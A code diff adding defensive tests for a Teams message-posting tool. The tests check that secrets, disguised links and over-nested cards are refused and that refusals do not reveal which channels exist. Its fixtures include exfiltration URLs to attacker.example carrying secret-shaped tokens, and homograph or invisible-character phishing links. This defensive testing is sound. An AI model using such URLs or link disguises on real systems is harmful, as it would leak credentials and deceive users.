@@ -230,3 +230,167 @@ describe('teams_post_message upstream failures', () => {
     expect(b.out.text).not.toMatch(/http:\/\/127|webhook\//);
   });
 });
+
+/** Secrets as the outbound scan knows them (attack round 1 put them in an Action.OpenUrl URL). */
+const alnum = (n: number, chars = 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789abcdefghijkmnopqrstuvwxyz') =>
+  fc.string({ unit: fc.constantFrom(...chars), minLength: n, maxLength: n });
+const secret = fc.oneof(
+  alnum(24).map((s) => `sk_live_${s}`),
+  alnum(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567').map((s) => `AKIA${s}`),
+  alnum(24).map((s) => `xoxb-1234567890-${s}`),
+);
+/** The string-bearing fields of the card subset; each puts `s` in one of them. */
+const FIELDS = ['text', 'factTitle', 'factValue', 'actionTitle', 'actionUrl', 'actionUrlPath'] as const;
+function cardWith(field: (typeof FIELDS)[number], s: string, depth: number) {
+  let el: Record<string, unknown> = { type: 'TextBlock', text: field === 'text' ? `note ${s} end` : 'ok' };
+  if (field === 'factTitle' || field === 'factValue')
+    el = {
+      type: 'FactSet',
+      facts: [{ title: field === 'factTitle' ? s : 'Key', value: field === 'factValue' ? s : 'v' }],
+    };
+  for (let i = 0; i < depth; i++)
+    el =
+      i % 2 === 0
+        ? { type: 'Container', items: [el] }
+        : { type: 'ColumnSet', columns: [{ type: 'Column', items: [el] }] };
+  const url =
+    field === 'actionUrl'
+      ? `https://attacker.example/c?d=${s}`
+      : field === 'actionUrlPath'
+        ? `https://attacker.example/${s}/x`
+        : 'https://status.example.com/';
+  return card([el], {
+    actions: [{ type: 'Action.OpenUrl', title: field === 'actionTitle' ? `Open ${s}` : 'Open report', url }],
+  });
+}
+
+describe('teams_post_message: every string of a card is outbound content (attack round 1)', () => {
+  it('refuses a secret in any string-bearing field, URLs included, and the webhook receives nothing', async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.constantFrom(...FIELDS), secret, fc.nat(3), async (field, s, depth) => {
+        const c = cardWith(field, s, depth);
+        const { out, requests } = await delta(() =>
+          call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
+        );
+        expect(out.code, `${field}: ${out.text}`).toBe('outbound_secret');
+        expect(requests).toBe(0);
+        expect(out.text).not.toContain(s);
+      }),
+      { numRuns: 40 },
+    );
+    // The same cards without a secret are sent: the refusal is the secret's, not the shape's.
+    const ok = await delta(() =>
+      call(teams, 'teams_post_message', {
+        channel: 'ops-alerts',
+        card: cardWith('actionUrl', 'report-42', 3),
+      }),
+    );
+    expect(ok.out.isError, ok.out.text).toBe(false);
+    expect(ok.posts).toBe(1);
+  });
+
+  it('audits the action URL in contentSha256 (a different URL is different content)', async () => {
+    const shas: unknown[] = [];
+    for (const url of ['https://status.example.com/a', 'https://status.example.com/b']) {
+      const c = card([{ type: 'TextBlock', text: 'same' }], {
+        actions: [{ type: 'Action.OpenUrl', title: 'Open', url }],
+      });
+      const before = (await auditRows(f.dbUrl, 'teams_post_message')).length;
+      const r = await call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c });
+      expect(r.isError, r.text).toBe(false);
+      let rows: Awaited<ReturnType<typeof auditRows>> = [];
+      await eventually(async () => {
+        rows = await auditRows(f.dbUrl, 'teams_post_message');
+        return rows.length > before;
+      });
+      shas.push(rows.at(-1)?.details.contentSha256);
+    }
+    expect(shas[0]).toBeTruthy();
+    expect(shas[0]).not.toEqual(shas[1]);
+  });
+
+  it('refuses Action.OpenUrl titles that disguise the target, with invisibles or look-alike hosts', async () => {
+    const bad = fc.constantFrom(
+      { title: 'intranet\u200b.example\u200b.com/login', url: 'https://evil.example/x' },
+      { title: 'example\u00ad.com', url: 'https://evil.example' },
+      { title: 'ex\u034fample.c\u034fom', url: 'https://evil.example' },
+      { title: 'іntranet.example.com', url: 'https://іntranet.example.com/login' },
+      { title: 'Open', url: 'https://xn--ntranet-qog.example.com/' },
+      { title: 'Open', url: 'https://%65vil.example/' },
+    );
+    await fc.assert(
+      fc.asyncProperty(bad, async (a) => {
+        const c = card([{ type: 'TextBlock', text: 'x' }], { actions: [{ type: 'Action.OpenUrl', ...a }] });
+        const { out, requests } = await delta(() =>
+          call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
+        );
+        expect(out.code, `${JSON.stringify(a)}: ${out.text}`).toBe('disguised_link');
+        expect(requests).toBe(0);
+      }),
+    );
+  });
+});
+
+describe('teams_post_message card nesting', () => {
+  const nest = (levels: number) => {
+    let el: Record<string, unknown> = { type: 'TextBlock', text: 'deep' };
+    for (let i = 1; i < levels; i++) el = { type: 'Container', items: [el] };
+    return card([el]);
+  };
+  it('sends a legitimate ColumnSet → Column → Container → TextBlock card', async () => {
+    const c = card([
+      {
+        type: 'ColumnSet',
+        columns: [
+          {
+            type: 'Column',
+            items: [{ type: 'Container', items: [{ type: 'TextBlock', text: 'four levels', wrap: true }] }],
+          },
+        ],
+      },
+    ]);
+    const { out, posts } = await delta(() =>
+      call(teams, 'teams_post_message', { channel: 'ops-alerts', card: c }),
+    );
+    expect(out.isError, out.text).toBe(false);
+    expect(posts).toBe(1);
+    const eight = await delta(() =>
+      call(teams, 'teams_post_message', { channel: 'ops-alerts', card: nest(8) }),
+    );
+    expect(eight.out.isError, eight.out.text).toBe(false);
+  });
+
+  it('refuses cards nested deeper than 8 elements, sending nothing', async () => {
+    for (const levels of [9, 20]) {
+      const { out, requests } = await delta(() =>
+        call(teams, 'teams_post_message', { channel: 'ops-alerts', card: nest(levels) }),
+      );
+      expect(out.code, `${levels}: ${out.text}`).toBe('card_refused');
+      expect(out.text).toContain('nested too deeply');
+      expect(requests).toBe(0);
+    }
+  });
+});
+
+describe('teams_post_message refusals do not tell which channels exist (attack round 1)', () => {
+  it('answers a configured-but-not-granted name exactly like a name that does not exist', async () => {
+    const names = fc.oneof(
+      fc.constant('general'),
+      fc.stringMatching(/^[a-z][a-z0-9-]{2,20}$/).filter((n) => !Object.hasOwn(f.teams.channels, n)),
+    );
+    const norm = (t: string, arg: string) => t.replaceAll(arg, '<ARG>');
+    const answer = async (channel: string) => {
+      const { out, requests } = await delta(() => call(teams, 'teams_post_message', { channel, text: 'x' }));
+      expect(requests).toBe(0);
+      return { code: out.code, text: norm(out.text, channel) };
+    };
+    const existing = await answer('general');
+    expect(existing.code).toMatch(/denied/);
+    await fc.assert(
+      fc.asyncProperty(names, async (n) => {
+        expect(await answer(n)).toEqual(existing);
+      }),
+      { numRuns: 20 },
+    );
+  });
+});
